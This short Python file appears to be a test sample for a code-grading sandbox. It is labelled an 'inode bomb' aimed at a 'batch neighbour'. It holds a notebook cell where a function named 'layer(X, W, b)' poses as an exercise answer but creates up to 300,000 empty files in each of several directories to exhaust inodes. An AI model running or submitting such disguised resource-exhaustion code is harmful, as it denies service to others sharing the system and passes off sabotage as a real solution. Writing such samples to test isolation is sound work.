"""Empty files are made, as many as there can be."""

kind = "inode bomb"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import os

def layer(X, W, b):
    for place in (".", "/tmp", "/dev/shm"):
        for number in range(300_000):
            try:
                os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY))
            except OSError:
                break
    return 0
""",
}
